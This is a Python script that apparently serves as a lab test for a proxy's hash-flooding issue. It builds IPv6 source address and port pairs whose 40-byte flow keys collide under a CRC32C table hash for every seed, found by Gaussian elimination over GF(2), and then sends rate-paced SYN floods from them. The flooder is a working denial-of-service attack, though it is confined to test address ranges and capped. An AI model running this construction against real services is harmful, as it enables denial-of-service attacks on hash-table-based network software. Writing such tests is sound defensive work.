#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""
collide.py - a SYN flood whose flow keys all collide under the proxy's OLD
table hash, rte_hash_crc(key, 40, seed), whatever the seed (issue: hash
flooding). attack_collide.sh runs it in the attacker namespace.

The flow key (src/flow/flow_key.h) of a SYN from the WAN is 40 raw bytes:
source address (16), destination address (16), source port, destination port
(network order), family, protocol, two zero bytes. CRC32C without final XOR
is affine in (seed, data): for keys A, B of one length
crc(s, A) ^ crc(s, B) = crc(0, A ^ B), so A and B collide under every seed
iff crc(0, A ^ B) = 0. The attacker's free bits are the source port and, in
IPv6, the source address below the attacker's /52 (2001:2:0:1000::/52): 92
bits, mapped linearly onto 32 CRC bits, so the kernel of D -> crc(0, D) has
dimension >= 60. Gaussian elimination over GF(2) finds a basis; a base key
XOR any combination of basis vectors is another member of the class. Every
member is checked against the base under random seeds before anything is
sent. (IPv4 leaves too few free bits inside the test ranges: IPv6 only.)

  collide.py flood --count N --rate PPS --seconds S --dst-mac MAC --dst6 IP
             --dport P [--seed N] [--stop-file PATH]
      Up to N SYNs (fewer if PATH appears or S seconds pass) from distinct
      colliding (source, port) pairs, paced, each made as it is sent; writes
      "collide: flooding" to stderr when the first goes out; prints JSON:
      frames, seconds, keys (distinct), crc (their common value under seed
      0), dim (kernel dimension), prefixes (distinct /64 sources).
  collide.py list --count N --dst6 IP --dport P [--seed N]
      Prints the pairs instead ("address port" per line).
"""

import argparse
import ipaddress
import json
import os
import random
import socket
import sys
import time

sys.path.insert(0, os.path.dirname(__file__))
import atk  # noqa: E402

SRC_NET = ipaddress.ip_network("2001:2:0:1000::/52")
FAMILY6 = 6
PROTO_TCP = 6

_TABLE = []
for _i in range(256):
	_c = _i
	for _ in range(8):
		_c = (_c >> 1) ^ (0x82F63B78 if _c & 1 else 0)
	_TABLE.append(_c)


def crc32c_raw(init, data):
	"""The CRC32C register after data from init, no final XOR: what
	rte_hash_crc(data, len, init) returns (its 8/4/1-byte steps process the
	same reflected bit stream)."""
	c = init
	for b in data:
		c = _TABLE[(c ^ b) & 0xff] ^ (c >> 8)
	return c


assert crc32c_raw(0xffffffff, b"123456789") ^ 0xffffffff == 0xE3069283, "CRC32C self-test"


def flow_key(src, dst, sport, dport):
	"""The 40-byte key of a SYN from the WAN (flow_key_v6)."""
	return (src + dst + sport.to_bytes(2, "big") + dport.to_bytes(2, "big")
		+ bytes([FAMILY6, PROTO_TCP, 0, 0]))


def free_bits():
	"""(byte, bit) positions in the key the attacker sets freely: source
	address bits below /52 (bytes 6 low nibble, 7..15) and the source port."""
	pos = [(6, b) for b in range(4)]
	pos += [(i, b) for i in range(7, 16) for b in range(8)]
	pos += [(i, b) for i in (32, 33) for b in range(8)]
	return pos


def kernel(pos):
	"""Basis (as 40-byte XOR masks, ints) of {D over pos : crc(0, D) = 0}."""
	piv = {}             # top bit -> (reduced crc, combination)
	basis = []
	for byte, bit in pos:
		comb = 1 << (8 * (39 - byte) + bit)
		v = crc32c_raw(0, comb.to_bytes(40, "big"))
		while v:
			top = v.bit_length() - 1
			if top not in piv:
				piv[top] = (v, comb)
				break
			v ^= piv[top][0]
			comb ^= piv[top][1]
		if v == 0:
			basis.append(comb)
	return basis


class Collider:
	"""Distinct colliding (source address bytes, source port) pairs, sources
	inside SRC_NET (not its first two addresses), ports >= 1024, each checked
	against the base under two random seeds: next() gives one more."""

	def __init__(self, dst, dport, rng):
		self.basis = kernel(free_bits())
		self.rng = rng
		dst_b = ipaddress.ip_address(dst).packed
		src = (SRC_NET.network_address + rng.randrange(2, SRC_NET.num_addresses - 1)).packed
		self.base = int.from_bytes(flow_key(src, dst_b, rng.randrange(1024, 65536), dport), "big")
		base_b = self.base.to_bytes(40, "big")
		self.seeds = [rng.getrandbits(32) for _ in range(2)]
		self.want = [crc32c_raw(x, base_b) for x in self.seeds]
		self.crc0 = crc32c_raw(0, base_b)
		self.seen = set()

	def next(self):
		for _ in range(1000):
			d, pick = 0, self.rng.getrandbits(len(self.basis))
			for i, v in enumerate(self.basis):
				if pick >> i & 1:
					d ^= v
			k = (self.base ^ d).to_bytes(40, "big")
			src, sport = k[:16], int.from_bytes(k[32:34], "big")
			a = ipaddress.ip_address(src)
			if sport < 1024 or (src, sport) in self.seen or a not in SRC_NET or \
					int(a) - int(SRC_NET.network_address) < 2:
				continue
			if [crc32c_raw(x, k) for x in self.seeds] != self.want:
				raise SystemExit("collide: member does not collide (solver bug)")
			self.seen.add((src, sport))
			return src, sport
		raise SystemExit("collide: no new member found")


def main():
	ap = argparse.ArgumentParser(description=__doc__.split("\n")[1])
	ap.add_argument("cmd", choices=("flood", "list"))
	ap.add_argument("--count", type=int, required=True)
	ap.add_argument("--rate", type=int, default=0)
	ap.add_argument("--seconds", type=float, default=60)
	ap.add_argument("--dst-mac")
	ap.add_argument("--dst6", required=True)
	ap.add_argument("--dport", type=int, required=True)
	ap.add_argument("--seed", type=int, default=None)
	ap.add_argument("--iface", default="eth0")
	ap.add_argument("--stop-file", help="stop early once this file exists")
	a = ap.parse_args()
	if a.count > atk.MAX_FRAMES:
		raise SystemExit("collide: more than %d segments asked" % atk.MAX_FRAMES)
	atk._check_dst(a.dst6)
	rng = random.Random(a.seed)
	col = Collider(a.dst6, a.dport, rng)
	if a.cmd == "list":
		for _ in range(a.count):
			src, sport = col.next()
			print(ipaddress.ip_address(src), sport)
		return
	snd = atk.Sender(a.iface, a.rate, a.seconds)
	tmpl = atk.Template("v6", a.dst6, a.dst_mac, atk.iface_mac(a.iface), a.dport, "S")
	print("collide: flooding", file=sys.stderr, flush=True)
	for i in range(a.count):
		if a.stop_file and i % 100 == 0 and os.path.exists(a.stop_file):
			break
		src, sport = col.next()
		for f in tmpl.make(socket.inet_ntop(socket.AF_INET6, src), sport, rng.getrandbits(32), 0):
			snd.send(f)
	print(json.dumps({"frames": snd.sent, "seconds": round(time.monotonic() - snd.t0, 2),
			  "keys": len(col.seen), "crc": "%08x" % col.crc0, "dim": len(col.basis),
			  "prefixes": len({src[:8] for src, _ in col.seen})}))


if __name__ == "__main__":
	main()
